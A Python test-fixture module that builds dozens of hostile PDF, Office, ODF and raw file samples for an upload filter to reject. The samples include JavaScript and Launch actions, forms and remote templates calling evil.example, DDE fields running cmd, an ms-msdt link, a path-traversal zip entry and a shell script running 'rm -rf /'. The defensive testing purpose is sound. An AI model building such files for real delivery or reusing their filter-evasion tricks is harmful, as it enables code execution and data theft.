"""Files that must not be taken, by what is wrong with them: what a road refuses, in words, and keeps nothing of."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.files import CONTENT_TYPES, OFFICE_TYPES, docx, odt, office, pdf, pptx, rels, xlsx, zipped

Change = Callable[[pikepdf.Pdf], object]


def _action(**values: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = Dictionary(**values)

    return change


def _annotation(**values: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **values)
        made.pages[0].Annots = Array([made.make_indirect(annotation)])

    return change


def _attachment(made: pikepdf.Pdf) -> None:
    made.attachments["a.exe"] = b"MZ"


def _form_of_xml(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


_SCRIPT = _action(S=Name.JavaScript, JS=String("app.alert(1)"))


def _updated(before: bytes, changed: bytes) -> bytes:
    """A PDF to whose end another version of its catalogue was added, as editors do."""
    start = before.rindex(b"startxref") + len(b"startxref")
    old = int(before[start:].split()[0])
    number = len(before) + 1
    body = b"\n1 0 obj\n" + changed + b"\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Root 1 0 R /Size 9 /Prev %d >>\n" % (number, old)
    return before + body + table + b"startxref\n%d\n%%%%EOF\n" % (len(before) + len(body))


def _packed(content: bytes) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as opened:
        opened.save(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return made.getvalue()


def _locked(owner: str, user: str) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as opened:
        opened.save(made, encryption=pikepdf.Encryption(owner=owner, user=user))
    return made.getvalue()


_WITH_ACTION = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>"

PDFS: dict[str, bytes] = {
    "script": pdf(_SCRIPT),
    "script under an escaped name": pdf(_SCRIPT).replace(b"/JavaScript", b"/J#61vaScript"),
    "script in packed objects": _packed(pdf(_SCRIPT)),
    "script in a later version": _updated(pdf(), _WITH_ACTION),
    "script behind a missing table": pdf(_SCRIPT).replace(b"xref", b"xxxx"),
    "script of a page": pdf(lambda made: setattr(made.pages[0], "AA", Dictionary(O=Dictionary(S=Name.JavaScript)))),
    "script of all pages": pdf(
        lambda made: setattr(made.Root, "Names", Dictionary(JavaScript=Dictionary(Names=[String("a"), Dictionary()])))
    ),
    "program": pdf(_action(S=Name.Launch, F=String("cmd.exe"))),
    "program under an escaped name": pdf(_action(S=Name.Launch)).replace(b"/Launch", b"/#4caunch"),
    "attached file": pdf(_attachment),
    "attached note": pdf(_annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a")))),
    "film": pdf(_annotation(Subtype=Name.RichMedia)),
    "form that sends itself": pdf(_action(S=Name.SubmitForm, F=String("http://evil.example/"))),
    "form of another kind": pdf(_form_of_xml),
    "jump into another file": pdf(_action(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"))),
    "link that is a script": pdf(
        _annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:a()")))
    ),
    "link to a share": pdf(_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("\\\\evil\\share")))),
    "link to a file": pdf(_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///C:/a.exe")))),
    "password": _locked("a", "b"),
    "password of the owner": _locked("a", ""),
    "no pages": pdf(lambda made: made.pages.remove(p=1)),
    "cut short": pdf()[:80],
    "head alone": b"%PDF-1.7\n",
}
_HYPERLINK = "hyperlink"
_RIBBON = "application/vnd.ms-office.vbaProject"

OFFICE: dict[str, bytes] = {
    "docx: macros": docx(**{"word__vbaProject.bin": "x"}),
    "docx: macros under another name": docx(types={"/word/a.bin": _RIBBON}, **{"word__a.bin": "x"}),
    "docx: macros by its type": office("docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "docx: template elsewhere": docx(**rels("word__settings", "attachedTemplate", "http://evil.example/a.dotm")),
    "docx: picture elsewhere": docx(**rels("word__document", "image", "http://evil.example/a.png")),
    "docx: picture on a share": docx(**rels("word__document", "image", "file://evil.example/a.png")),
    "docx: strict, template elsewhere": docx(
        **rels(
            "word__settings",
            "attachedTemplate",
            "http://evil.example/a",
            base="http://purl.oclc.org/ooxml/officeDocument",
        )
    ),
    "docx: web page brought in": docx(**rels("word__document", "aFChunk", "a.html", external=False)),
    "docx: OLE object": docx(**{"word__embeddings__oleObject1.bin": "\xd0\xcf\x11\xe0"}),
    "docx: OLE object elsewhere": docx(**rels("word__document", "oleObject", "http://evil.example/a.rtf")),
    "docx: OLE object under another name": docx(**{"word__media__image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "docx: program inside": docx(**{"word__media__image1.png": b"MZ\x90\x00"}),
    "docx: document inside": docx(**{"word__embeddings__a.docx": docx()}),
    "docx: workbook with macros inside": docx(**{"word__embeddings__a.xlsx": xlsx(**{"xl__vbaProject.bin": "x"})}),
    "docx: ActiveX": docx(**{"word__activeX__activeX1.xml": "<a/>"}),
    "docx: link that is a script": docx(**rels("word__document", _HYPERLINK, "javascript:alert(1)")),
    "docx: link that starts a tool": docx(**rels("word__document", _HYPERLINK, "ms-msdt:/id PCWDiagnostic")),
    "docx: field that runs": docx(
        **{
            "word__document.xml": "<w:document xmlns:w='w'><w:fldChar/><w:instrText> DDE</w:instrText>"
            "<w:instrText>AUTO c:\\\\cmd"
            "</w:instrText><w:fldChar/></w:document>"
        }
    ),
    "docx: field that fetches": docx(
        **{
            "word__document.xml": "<w:document xmlns:w='w'><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/\"'/></w:document>"
        }
    ),
    "docx: entities": docx(
        **{"word__document.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><w:document xmlns:w='w'>&b;</w:document>"}
    ),
    "docx: outside its folder": docx(**{"..__evil.txt": "x"}),
    "docx: cut short": docx()[:-30],
    "xlsx: macros": xlsx(**{"xl__vbaProject.bin": "x"}),
    "xlsx: old macros": xlsx(**{"xl__macrosheets__sheet1.xml": "<a/>"}),
    "xlsx: macros by its type": office("xlsx", main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "xlsx: other workbook": xlsx(
        types={"/xl/externalLinks/externalLink1.xml": f"{OFFICE_TYPES}.spreadsheetml.externalLink+xml"},
        **{"xl__externalLinks__externalLink1.xml": "<a/>"},
    ),
    "xlsx: OLE object": xlsx(**{"xl__embeddings__oleObject1.bin": "\xd0\xcf\x11\xe0"}),
    "xlsx: picture elsewhere": xlsx(**rels("xl__drawings__drawing1", "image", "https://evil.example/a.png")),
    "pptx: macros": pptx(**{"ppt__vbaProject.bin": "x"}),
    "pptx: OLE object": pptx(**{"ppt__embeddings__oleObject1.bin": "\xd0\xcf\x11\xe0"}),
    "pptx: film elsewhere": pptx(**rels("ppt__slides__slide1", "video", "https://evil.example/a.mp4")),
    "pptx: button that starts a program": pptx(
        **{"ppt__slides__slide1.xml": "<p:sld xmlns:p='p'><p:hlinkClick action='ppaction://program'/></p:sld>"}
    ),
    "odt: macros": odt(Basic__Standard__Module1="x"),
    "odt: scripts": odt(**{"Scripts__python__a.py": "x"}),
    "odt: script in its text": odt(**{"content.xml": "<o:a xmlns:o='o'><o:script/></o:a>"}),
    "odt: listener": odt(**{"content.xml": "<o:a xmlns:o='o'><o:event-listener o:href='x'/></o:a>"}),
    "odt: picture elsewhere": odt(**{"content.xml": "<o:image xmlns:o='o' o:href='http://evil.example/a.png'/>"}),
    "odt: template elsewhere": odt(**{"meta.xml": "<o:template xmlns:o='o' o:href='http://evil.example/a.ott'/>"}),
    "odt: OLE object": odt(**{"Object 1": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
    "odt: link that is a script": odt(**{"content.xml": "<o:a xmlns:o='o' o:href='vnd.sun.star.script:a'/>"}),
    "odt: password": odt(**{"META-INF__manifest.xml": "<m:a xmlns:m='m'><m:encryption-data/></m:a>"}),
}
OTHER: dict[str, bytes] = {
    "program": b"MZ\x90\x00" + b"\0" * 200,
    "Linux program": b"\x7fELF" + b"\0" * 200,
    "web page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "picture with a script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "RTF": b"{\\rtf1\\ansi {\\object}}",
    "plain zip": zipped(**{"a.txt": "x"}),
    "zip with a web page": zipped(**{"index.html": "<html></html>"}),
    "zip that says it is a document": zipped(**{"[Content_Types].xml": CONTENT_TYPES}),
    "nothing but a type": zlib.compress(b"%PDF-"),
}
HOSTILE: dict[str, bytes] = {
    **{f"pdf: {name}": content for name, content in PDFS.items()},
    **OFFICE,
    **{f"other: {name}": content for name, content in OTHER.items()},
}
